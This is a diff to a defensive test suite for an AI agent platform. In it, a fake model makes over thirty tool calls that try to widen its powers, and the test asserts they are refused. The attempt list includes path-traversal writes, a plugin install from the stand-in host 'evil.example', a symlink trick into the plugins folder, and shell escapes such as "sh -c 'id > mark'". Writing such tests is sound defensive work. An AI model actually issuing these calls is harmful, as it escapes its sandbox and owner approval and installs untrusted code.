@@ -26,6 +26,7 @@ from tests.fakes.subagents_llm import RoutingFakeOpenAI
 MARK = "pwned"  # a file in the data dir that any attempt which ran code would create
 OWNER_ONLY = "owner-only"
 OWNER_ACTION = "owner's decision"
+UNAPPROVED = "needs the owner's approval and nobody answered"  # plugin install/remove/enable: always asked
 NO_SHELL = "allow_shell"
 OUTSIDE = "outside the allowed folder"
 
@@ -99,6 +100,8 @@ async def test_thirty_odd_attempts_to_widen_powers_are_refused(data_dir: Path, m
         files_root = d.paths.root / "plugin_data" / "files"
         manifest = json.dumps({"name": "evil", "version": "1.0.0", "entry": "main.lua"})
         mark = d.paths.root / MARK
+        confined = d.sandbox.status()["confined"]
+        d.config.set("core.approvals.timeout", "1s")  # the owner is away: asked plugin actions are denied
         before = snapshot(d)
         assert before["marker"] is False
 
@@ -111,14 +114,15 @@ async def test_thirty_odd_attempts_to_widen_powers_are_refused(data_dir: Path, m
             ("files_write", {"path": "../../adapters/openai.lua", "content": "return {}"}, OUTSIDE),
             ("files_write", {"path": "evil/plugin.json", "content": manifest}, None),
             ("files_write", {"path": "evil/main.lua", "content": "sdk.log('owned')"}, None),
-            ("plugin_install", {"url": str(files_root / "evil")}, OWNER_ACTION),
-            ("plugin_install", {"url": "http://evil.example/evil.hmap", "upgrade": True}, OWNER_ACTION),
-            ("plugin_enable", {"name": "evil"}, OWNER_ACTION),
-            ("plugin_remove", {"name": "files"}, OWNER_ACTION),
+            ("plugin_install", {"url": str(files_root / "evil")}, UNAPPROVED),
+            ("plugin_install", {"url": "http://evil.example/evil.hmap", "upgrade": True}, UNAPPROVED),
+            ("plugin_enable", {"name": "evil"}, UNAPPROVED),
+            ("plugin_remove", {"name": "files"}, UNAPPROVED),
             ("plgreload", {"name": "evil"}, OWNER_ACTION),
-            # a symlink made with a command, then a write through it
+            # a symlink made with a command, then a write through it (in the sandbox the data dir is not there
+            # to link to, so the write makes an ordinary folder in the files root; unconfined, files refuses it)
             ("cmd_run", {"command": f"ln -s {d.paths.plugins} {files_root / 'pl'}"}, None),
-            ("files_write", {"path": "pl/evil3/plugin.json", "content": manifest}, OUTSIDE),
+            ("files_write", {"path": "pl/evil3/plugin.json", "content": manifest}, None if confined else OUTSIDE),
             # shells in every disguise
             ("cmd_run", {"command": f"sh -c 'id > {mark}'"}, NO_SHELL),
             ("cmd_run", {"command": "bash -c id"}, NO_SHELL),
@@ -166,6 +170,8 @@ async def test_thirty_odd_attempts_to_widen_powers_are_refused(data_dir: Path, m
     assert refused >= 30
     assert after == before
     assert (files_root / "evil" / "plugin.json").exists()  # the folder the model wrote stays inert
+    if confined:
+        assert not (files_root / "pl").is_symlink(), "the sandboxed command reached the files folder"
     assert not (d.paths.plugins / "evil").exists() and not (d.paths.plugins / "evil3").exists()
 
 
